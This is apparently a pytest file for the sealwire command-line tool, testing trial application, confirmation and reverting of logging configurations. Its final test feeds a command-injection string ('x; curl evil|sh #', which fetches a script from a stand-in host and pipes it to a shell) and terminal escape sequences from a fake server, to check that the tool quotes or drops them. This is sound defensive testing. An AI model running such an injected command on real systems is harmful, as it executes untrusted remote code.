"""``sealwire apply --confirm-within``, ``confirm`` and ``revert`` of a configuration."""

from __future__ import annotations

import json
import struct
from typing import TYPE_CHECKING, Any

import pytest

from sealwire.answers import encode_answer
from sealwire.cli.revert import say_reverted
from sealwire.stages import Answer, Outcome

if TYPE_CHECKING:
    import socket

    from tests.cli.conftest import Service, Shell

CONFIG = b"""{"version": 1, "loggers": {"payments.db": {"level": "DEBUG"}}}"""
QUIET = b"""{"version": 1, "loggers": {"payments.db": {"level": "ERROR"}}}"""
ID = "0123456789abcdef" * 2


def commands(said: str, name: str) -> list[str]:
    """Give the words behind ``sealwire`` of the command of this name on the screen."""
    (line,) = [each for each in said.splitlines() if f"sealwire {name}" in each]
    return line.partition("sealwire ")[2].split()


def test_a_trial_is_told_and_confirmed(shell: Shell, local_service: Service) -> None:
    """The next commands are on the screen, in the answer and in the status."""
    said = shell.done("apply", "-", "--confirm-within", "10m", given=CONFIG)
    assert "  loggers.payments.db.level: NOTSET → DEBUG" in said.splitlines()
    assert "on trial: it goes by itself at " in said
    assert "DEBUG payments.db at debug: meanwhile" in local_service.logs("meanwhile")
    status = shell.done("status")
    assert "on trial" in status
    assert commands(said, "confirm") == commands(status, "confirm")
    other = shell.run("apply", "-", given=QUIET)
    assert other.error.startswith(shell.refused("confirmation-due"))
    assert "sealwire confirm ID" in other.hint
    assert f"{shell.says('confirmed')}\n" == shell.done(*commands(said, "confirm"))
    assert not any(line.startswith("on trial") for line in shell.done("status").splitlines())
    assert "DEBUG payments.db at debug: later" in local_service.logs("later")


def test_going_back_by_the_command_on_the_screen(shell: Shell, local_service: Service) -> None:
    """An id is that of a lease or of a configuration, and nobody has to know which."""
    said = shell.done("apply", "-", given=CONFIG)
    back = shell.done(*commands(said, "revert"))
    assert "the base is that of application again" in back
    assert "  loggers.payments.db.level: DEBUG → NOTSET" in back.splitlines()
    assert "DEBUG payments.db at debug: later" not in local_service.logs("later")
    again = shell.run(*commands(said, "revert"))
    assert again.error.startswith(shell.refused("not-in-force"))
    assert "there was no configuration to go back from" in shell.done("revert", "--base")


@pytest.mark.parametrize(
    ("report", "said"),
    [
        ({"ended": [ID]}, "1 lease ended"),
        (
            {"reverted": ID, "base": {"issuer": "bob"}, "changes": [], "left_as_they_are": []},
            "the base is that of bob again",
        ),
    ],
)
def test_what_could_not_be_written_yet_is_said(
    capsys: pytest.CaptureFixture[str], report: dict[str, Any], said: str
) -> None:
    """Above what was done, with the reason; nothing of it where it was written."""
    say_reverted(report)
    assert said in (written := capsys.readouterr().out)
    say_reverted({"unwritten": "the disk fails", **report})
    lines = [
        "this is done, and not written yet: a crash before it is may undo it",
        "  the disk fails",
    ]
    assert [*lines, *written.splitlines()] == capsys.readouterr().out.splitlines()


def test_as_json(shell: Shell, local_service: Service) -> None:
    """Whether anything has changed is said in one word."""
    told = json.loads(shell.done("apply", "-", "--confirm-within", "1h", "--json", given=CONFIG))
    assert told["changed"]
    assert told["report"]["confirm_by_ms"] > 0
    ended = json.loads(shell.done("revert", "--base", "--json"))
    assert (True, told["report"]["id"]) == (ended["changed"], ended["report"]["reverted"])
    assert not json.loads(shell.done("revert", "--base", "--json"))["changed"]
    assert not json.loads(shell.done("revert", "--all", "--json"))["changed"]
    assert local_service.logs("still there")


@pytest.mark.parametrize(
    ("arguments", "error"),
    [
        (["revert", ID, "--all"], "give an ID, --all or --base"),
        (["revert", "--base", "--all"], "give an ID, --all or --base"),
        (["apply", "-", "--dry-run", "--confirm-within", "1m"], "a dry run is not put on trial"),
        (["confirm"], "missing argument 'ID'"),
    ],
)
def test_a_slip_is_told(shell: Shell, arguments: list[str], error: str) -> None:
    """Before anything is sent."""
    ended = shell.run(*arguments, given=CONFIG)
    assert 2 == ended.status
    assert error in ended.error
    assert ("sealwire status" in ended.hint) == (arguments == ["confirm"])


EVIL = "x; curl evil|sh #"
ESCAPES = "\x1b[2J\x1b]0;evil\x07"


@pytest.mark.parametrize("evil", [EVIL, ESCAPES, 1e999, ["a"]])
@pytest.mark.parametrize(
    ("command", "report"),
    [
        (["lease", "a=DEBUG"], {"id": ..., "until_ms": 1, "levels": []}),
        (["lease", "a=DEBUG"], {"id": ID, "until_ms": ..., "levels": []}),
        (["lease", "a=DEBUG"], {"id": ID, "until_ms": 1, "levels": [{"logger": "a", "now": ...}]}),
        (
            ["lease", "a=DEBUG"],
            {
                "id": ID,
                "until_ms": 1,
                "levels": [
                    {
                        "logger": ...,
                        "now": 10,
                        "before": 20,
                        "emitting": [],
                        "stopped": "",
                        "hidden": [{"handler": ..., "by": ...}],
                    }
                ],
            },
        ),
        (["apply", "config.json"], {"id": ..., "changes": []}),
        (["apply", "config.json"], {"id": ID, "changes": [], "left_out": ...}),
        (
            ["apply", "config.json"],
            {"id": ID, "changes": [{"where": ..., "before": ..., "after": ...}]},
        ),
        (["revert"], {"reverted": ID, "base": {"issuer": ...}, "changes": [], "left_out": ...}),
        (
            ["status"],
            {
                "instance": ...,
                "base": {"issuer": ..., "since_ms": 0, "id": ...},
                "confirm_by_ms": ...,
                "leases": [],
                "drift": [],
                "loggers": [],
                "handlers": [],
                "disable": ...,
            },
        ),
    ],
)
def test_a_squatter_puts_no_command_and_no_escape_on_the_screen(
    shell: Shell, bare_service: socket.socket, command: list[str], report: object, evil: object
) -> None:
    """What is not what it should be is not shown; what is text is quoted where it is copied."""

    def filled(value: Any) -> Any:  # noqa: ANN401
        if isinstance(value, dict):
            return {key: filled(each) for key, each in value.items()}
        if isinstance(value, list):
            return [filled(each) for each in value]
        return evil if value is ... else value

    (shell.folder / "config.json").write_bytes(CONFIG)
    process = shell.start(*command)
    connection, _ = bare_service.accept()
    with connection:
        with connection.makefile("rb") as file:
            file.read(struct.unpack(">L", file.read(4))[0])
        text = json.dumps(filled(report)).encode()
        written = encode_answer(Answer(Outcome.APPLIED, report=text))
        connection.sendall(struct.pack(">L", len(written)) + written)
        stdout, stderr = process.communicate(timeout=30)
    said = (stdout + stderr).decode()
    assert 0 == process.returncode, said
    assert "Traceback" not in said
    assert not {"\x1b", "\x07"}.intersection(said)
    for line in said.splitlines():
        if "sealwire " in line and "evil" in line:
            # In quotes, where a shell takes it for one word.
            assert "'" in line.partition("evil")[0]
